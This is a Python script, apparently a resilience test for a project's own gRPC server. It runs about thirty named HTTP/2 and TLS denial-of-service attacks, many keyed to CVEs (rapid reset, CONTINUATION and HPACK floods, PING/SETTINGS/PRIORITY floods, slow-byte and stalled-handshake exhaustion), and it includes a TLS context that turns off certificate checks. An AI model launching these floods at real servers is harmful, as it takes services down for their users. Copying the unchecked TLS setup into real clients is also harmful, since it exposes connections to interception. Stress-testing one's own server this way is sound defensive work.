"""Attacks on the server's HTTP/2, each for a given time. A program, so that no attack slows the callers beside it down.

attacks.py NAME ADDRESS SECONDS
"""

from __future__ import annotations

import contextlib
import pathlib
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "e2e"))

import hostile_wire as h2

BLOCK = h2.request_fields(h2.SORT)
CANCEL = struct.pack(">I", 8)
STREAMS = 256
"""As many calls as one connection may have."""
Attack = Callable[[str, "Clock"], None]
ATTACKS: dict[str, Attack] = {}


class Clock:
    """Says whether the attack goes on."""

    def __init__(self, seconds: float) -> None:
        self._end = time.monotonic() + seconds

    def __bool__(self) -> bool:
        return time.monotonic() < self._end

    def wait(self, seconds: float = 0.01) -> None:
        time.sleep(max(0.0, min(seconds, self._end - time.monotonic())))

    def rest(self) -> None:
        """Waits for the end."""
        self.wait(1e9)


def named(name: str) -> Callable[[Attack], Attack]:
    def add(attack: Attack) -> Attack:
        ATTACKS[name] = attack
        return attack

    return add


def varint(value: int) -> bytes:
    encoded = bytearray()
    while value >= 128:
        encoded.append(value & 127 | 128)
        value >>= 7
    return bytes((*encoded, value))


def sort_request(data: bytes) -> bytes:
    """A SortRequest of INT32 keys, encoded by hand because importing the messages takes long."""
    array = b"\x08\x01\x22" + varint(len(data)) + data
    return h2.message(b"\x0a" + varint(len(array)) + array)


def frames_of(stream: int, body: bytes) -> bytes:
    """The DATA frames of a whole message."""
    parts = [body[at : at + 16384] for at in range(0, len(body), 16384)]
    last = len(parts) - 1
    return b"".join(h2.frame(h2.DATA, h2.END_STREAM if i == last else 0, stream, part) for i, part in enumerate(parts))


def connections(address: str, clock: Clock, window: int | None = None) -> Iterator[h2.Connection]:
    """One connection after the other: the next one when the server has ended the last."""
    while clock:
        try:
            connection = h2.Connection(address, window=window)
        except OSError:
            clock.wait(0.05)
            continue
        with connection:
            yield connection


def flood(address: str, clock: Clock, prepare: Callable[[h2.Connection], bytes], unread: bool = False) -> None:
    """Sends the same frames over and over; without reading, a send that blocks waits until the server cuts it off."""
    for connection in connections(address, clock):
        burst = prepare(connection)
        while clock:
            if unread:
                connection.socket.settimeout(0.5)
                try:
                    connection.socket.sendall(burst)
                except TimeoutError:
                    continue
                except OSError:
                    break
            elif not connection.send_patiently(burst, 1):
                break
            connection._buffer = b""  # nobody reads the answers


@named("rapid reset (CVE-2023-44487)")
def rapid_reset(address: str, clock: Clock) -> None:
    body = sort_request(struct.pack("<3i", 3, 1, 2))
    for connection in connections(address, clock):
        while clock:
            burst = bytearray()
            for _ in range(100):
                stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
                burst += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, BLOCK)
                burst += h2.frame(h2.DATA, h2.END_STREAM, stream, body)
                burst += h2.frame(h2.RST_STREAM, 0, stream, CANCEL)
            connection._buffer = b""
            if not connection.send_patiently(bytes(burst), 1):
                break


@named("resets that the server makes (CVE-2025-8671)")
def made_you_reset(address: str, clock: Clock) -> None:
    """Each call is valid; a WINDOW_UPDATE of 0 makes the server reset it while its handler runs."""
    body = sort_request(struct.pack("<3i", 3, 1, 2))
    for connection in connections(address, clock):
        while clock:
            burst = bytearray()
            for _ in range(100):
                stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
                burst += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, BLOCK)
                burst += h2.frame(h2.DATA, h2.END_STREAM, stream, body)
                burst += h2.frame(h2.WINDOW_UPDATE, 0, stream, bytes(4))
            connection._buffer = b""
            if not connection.send_patiently(bytes(burst), 1):
                break


@named("streams without acknowledging SETTINGS")
def unacknowledged(address: str, clock: Clock) -> None:
    for connection in connections(address, clock):
        while clock:
            burst = bytearray()
            for _ in range(200):
                stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
                burst += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, BLOCK)
            connection._buffer = b""
            if not connection.send_patiently(bytes(burst), 1):
                break


@named("CONTINUATION flood of tiny fields (CVE-2024-27316)")
def continuations(address: str, clock: Clock) -> None:
    block = h2.field(b"a", b"", 0x00) * 1000
    for connection in connections(address, clock):
        stream = connection.open(BLOCK, flags=0)
        while clock and connection.send_patiently(h2.frame(h2.CONTINUATION, 0, stream, block), 1):
            pass


@named("endless HPACK integer (CVE-2023-33953)")
def endless_integer(address: str, clock: Clock) -> None:
    for connection in connections(address, clock):
        stream = connection.open(BLOCK + b"\x00\x7f", flags=0)
        while clock and connection.send_patiently(h2.frame(h2.CONTINUATION, 0, stream, b"\x80" * 100), 1):
            clock.wait(0.01)


@named("HPACK bomb")
def hpack_bomb(address: str, clock: Clock) -> None:
    for connection in connections(address, clock):
        connection.open(BLOCK + h2.field(b"x-bomb", b"v" * 3900, 0x40))
        while clock:
            stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
            connection._buffer = b""
            if not connection.send_patiently(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, BLOCK + b"\xbe" * 16000), 1):
                break


@named("binary fields of commas, each an entry with the name")
def commas(address: str, clock: Clock) -> None:
    block = BLOCK + h2.field(b"n" * 7000 + b"-bin", b"," * 7000)
    for connection in connections(address, clock):
        for _ in range(STREAMS):
            connection.open(block)
            connection._buffer = b""
        clock.wait(1)


@named("SETTINGS flips of window and table")
def settings_flips(address: str, clock: Clock) -> None:
    def prepare(connection: h2.Connection) -> bytes:
        for _ in range(STREAMS):
            connection.open(BLOCK)
        values = ((1, 0), (4, 0)), ((1, 4096), (4, 2**31 - 1))
        flips = [h2.frame(h2.SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs)) for pairs in values]
        return b"".join(flips) * 500

    flood(address, clock, prepare)


@named("PING flood, unread (CVE-2019-9512)")
def pings(address: str, clock: Clock) -> None:
    flood(address, clock, lambda _: h2.frame(h2.PING, 0, 0, b"12345678") * 1000, unread=True)


@named("SETTINGS flood, unread (CVE-2019-9515)")
def settings(address: str, clock: Clock) -> None:
    flood(address, clock, lambda _: h2.frame(h2.SETTINGS, 0, 0) * 1000, unread=True)


@named("PRIORITY flood (CVE-2019-9513)")
def priorities(address: str, clock: Clock) -> None:
    burst = b"".join(h2.frame(h2.PRIORITY, 0, i, struct.pack(">IB", i + 2, 7)) for i in range(1, 2001, 2))
    flood(address, clock, lambda _: burst)


@named("empty DATA frames (CVE-2019-9518)")
def empty_data(address: str, clock: Clock) -> None:
    flood(address, clock, lambda connection: h2.frame(h2.DATA, 0, connection.open(BLOCK)) * 1000)


@named("data on streams that the peer has reset")
def late_data(address: str, clock: Clock) -> None:
    def prepare(connection: h2.Connection) -> bytes:
        streams = [connection.open(BLOCK) for _ in range(100)]
        connection.send_patiently(b"".join(h2.frame(h2.RST_STREAM, 0, stream, CANCEL) for stream in streams), 1)
        return b"".join(h2.frame(h2.DATA, 0, stream) for stream in streams) * 10

    flood(address, clock, prepare)


@named("answers taken a byte at a time by WINDOW_UPDATE (CVE-2019-9511)")
def dribble(address: str, clock: Clock) -> None:
    body = sort_request(bytes(64 << 10))
    for connection in connections(address, clock, window=0):
        streams = []
        for _ in range(32):
            streams.append(connection.open(BLOCK))
            connection.send_patiently(frames_of(streams[-1], body), 1)
        updates = b"".join(h2.frame(h2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in streams)
        while clock:
            connection._buffer = b""
            if not connection.send_patiently(updates * 8, 1):
                break


@named("answers that nobody reads: window 0 (CVE-2019-9517)")
def unread_answers(address: str, clock: Clock) -> None:
    body = sort_request(bytes(64 << 10))
    with contextlib.ExitStack() as stack:
        for _ in range(4):
            connection = stack.enter_context(h2.Connection(address, window=0))
            for _ in range(STREAMS):
                stream = connection.open(BLOCK)
                if not connection.send_patiently(frames_of(stream, body), 2):
                    break
        clock.rest()


@named("reflection answers that nobody reads")
def reflection(address: str, clock: Clock) -> None:
    block = h2.request_fields("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
    symbol = b"corank.v1.CorankService"
    ask_twice = h2.message(b"\x22" + varint(len(symbol)) + symbol) * 2
    send_to_many(address, clock, block, ask_twice)


@named("bytes after the only message of 1,024 health watches")
def after_watch(address: str, clock: Clock) -> None:
    send_to_many(address, clock, h2.request_fields("/grpc.health.v1.Health/Watch"), h2.message(b""))


def send_to_many(address: str, clock: Clock, block: bytes, messages: bytes) -> None:
    """Opens 1,024 calls, and sends each all that its window takes after its messages."""
    body = messages + b"\1" * ((256 << 10) - len(messages))
    frames = [body[at : at + h2.FRAME_BYTES] for at in range(0, len(body), h2.FRAME_BYTES)]
    with contextlib.ExitStack() as stack:
        for _ in range(4):
            connection = stack.enter_context(h2.Connection(address, window=0))
            connection.exchange_settings()
            for _ in range(STREAMS):
                stream = connection.open(block)
                data = b"".join(h2.frame(h2.DATA, 0, stream, part) for part in frames)
                if not connection.send_patiently(data, 2):
                    break
        clock.rest()


@named("slow headers: 200 connections, a byte at a time")
def slow_headers(address: str, clock: Clock) -> None:
    block = BLOCK + h2.field(b"x-slow", b"v" * 1000)
    with contextlib.ExitStack() as stack:
        slow = [stack.enter_context(h2.Connection(address)) for _ in range(200)]
        for byte in h2.frame(h2.HEADERS, h2.END_HEADERS, 1, block):
            for connection in slow:
                connection.send(bytes((byte,)))
            if not clock:
                return
            clock.wait(0.1)


@named("slow bodies: 2,560 calls, a byte at a time")
def slow_bodies(address: str, clock: Clock) -> None:
    body = sort_request(bytes(4096))
    with contextlib.ExitStack() as stack:
        slow = []
        for _ in range(10):
            connection = stack.enter_context(h2.Connection(address))
            slow.append((connection, [connection.open(BLOCK) for _ in range(STREAMS)]))
        for byte in body:
            for connection, streams in slow:
                connection._buffer = b""
                data = b"".join(h2.frame(h2.DATA, 0, stream, bytes((byte,))) for stream in streams)
                connection.send_patiently(data, 1)
            if not clock:
                return
            clock.wait(0.2)


@named("1,024 half-sent calls")
def half_sent(address: str, clock: Clock) -> None:
    body = sort_request(bytes(16 << 10))
    with contextlib.ExitStack() as stack:
        for _ in range(4):
            connection = stack.enter_context(h2.Connection(address))
            for _ in range(STREAMS):
                stream = connection.open(BLOCK)
                connection.send_patiently(h2.frame(h2.DATA, 0, stream, body[: len(body) // 2]), 1)
        clock.rest()


@named("500 connections that say nothing")
def idle(address: str, clock: Clock) -> None:
    with contextlib.ExitStack() as stack:
        for i in range(500):
            stack.enter_context(h2.Connection(address, preface=i % 2 == 0))
        clock.rest()


@named("connections opened and cut at once")
def churn(address: str, clock: Clock) -> None:
    for connection in connections(address, clock):
        connection.open(BLOCK)
        connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


@named("calls without a method")
def unknown_methods(address: str, clock: Clock) -> None:
    block = h2.request_fields("/corank.v1.CorankService/Explode")
    for connection in connections(address, clock):
        while clock:
            burst = bytearray()
            for _ in range(100):
                stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
                burst += h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, block)
            connection._buffer = b""
            if not connection.send_patiently(bytes(burst), 1):
                break


def trusting() -> ssl.SSLContext:
    """TLS with any server."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


@named("TLS handshakes that stall")
def stalled_handshakes(address: str, clock: Clock) -> None:
    """Half of the connections stop within the ClientHello, the others after it."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = trusting().wrap_bio(incoming, outgoing)
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    hello = outgoing.read()
    with contextlib.ExitStack() as stack:
        for i in range(400):
            connection = stack.enter_context(h2.Connection(address, preface=False))
            connection.send(hello if i % 2 == 0 else hello[: len(hello) // 2])
        clock.rest()


@named("TLS handshakes without end")
def many_handshakes(address: str, clock: Clock) -> None:
    """The costly part for the server, once for each connection, with nothing after it."""
    context = trusting()
    for connection in (h2.Connection(address, preface=False) for _ in iter(lambda: bool(clock), False)):
        with connection, contextlib.suppress(OSError), context.wrap_socket(connection.socket) as secured:
            secured.sendall(h2.PREFACE)


@named("PRIORITY flood by TLS on four connections")
def priorities_by_tls(address: str, clock: Clock) -> None:
    context = trusting()
    burst = b"".join(h2.frame(h2.PRIORITY, 0, i, struct.pack(">IB", i + 2, 7)) for i in range(1, 2001, 2))

    def flood_one() -> None:
        while clock:
            with (
                contextlib.suppress(OSError),
                h2.Connection(address, preface=False) as connection,
                context.wrap_socket(connection.socket) as secured,
            ):
                secured.sendall(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0))
                while clock:
                    secured.sendall(burst)

    threads = [threading.Thread(target=flood_one) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](sys.argv[2], Clock(float(sys.argv[3])))
